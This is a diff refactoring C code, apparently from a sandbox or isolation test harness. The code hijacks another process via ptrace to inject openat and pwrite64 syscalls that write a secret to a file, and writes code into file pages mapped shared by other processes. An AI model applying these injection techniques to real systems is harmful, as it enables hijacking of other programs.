@@ -28,18 +28,18 @@ static long make_it_write(const struct attack *a, pid_t pid, const char *path, u
 
 	if (fd < 0)
 		return fd;
-	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
+	if (get_registers(pid, &regs) < 0)
 		return -errno;
 	if (!is_in_call(pid, &regs))
 		return -ENODATA;
-	fd = make_call(pid, &regs, SYS_openat, (const uint64_t[4]){ (uint64_t)AT_FDCWD, a->target.scratch, O_WRONLY, 0 });
+	fd = arch_make_call(pid, &regs, SYS_openat, (const uint64_t[4]){ (uint64_t)AT_FDCWD, a->target.scratch, O_WRONLY, 0 });
 	written = fd;
 	if (fd >= 0) {
-		written = make_call(pid, &regs, SYS_pwrite64,
+		written = arch_make_call(pid, &regs, SYS_pwrite64,
 				    (const uint64_t[4]){ (uint64_t)fd, secret, a->target.length, 0 });
-		(void)make_call(pid, &regs, SYS_close, (const uint64_t[4]){ (uint64_t)fd, 0, 0, 0 });
+		(void)arch_make_call(pid, &regs, SYS_close, (const uint64_t[4]){ (uint64_t)fd, 0, 0, 0 });
 	}
-	(void)ptrace(PTRACE_SETREGS, pid, NULL, &regs);
+	(void)put_registers(pid, &regs);
 	return written;
 }
 
@@ -116,7 +116,7 @@ int write_code(struct attack *a)
 		pause_ms(STEP_MS);
 		result = saw_file(a, loot);
 	}
-	(void)put_code(a, ARCH_RETURN, 1);
+	(void)put_code(a, ARCH_RETURN, sizeof(ARCH_RETURN) - 1);
 	(void)flock(a->fd, LOCK_UN);
 	(void)unlink(path);
 	return result == -ENODATA ? ALLOWED : result;
@@ -125,7 +125,7 @@ int write_code(struct attack *a)
 /* The pages are shared by all that have the file mapped. */
 int map_and_write_code(struct attack *a)
 {
-	a->at = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, a->fd, 0);
+	a->at = mmap(NULL, page_size(), PROT_READ | PROT_WRITE, MAP_SHARED, a->fd, 0);
 	return a->at == MAP_FAILED ? -errno : write_code(a);
 }
 
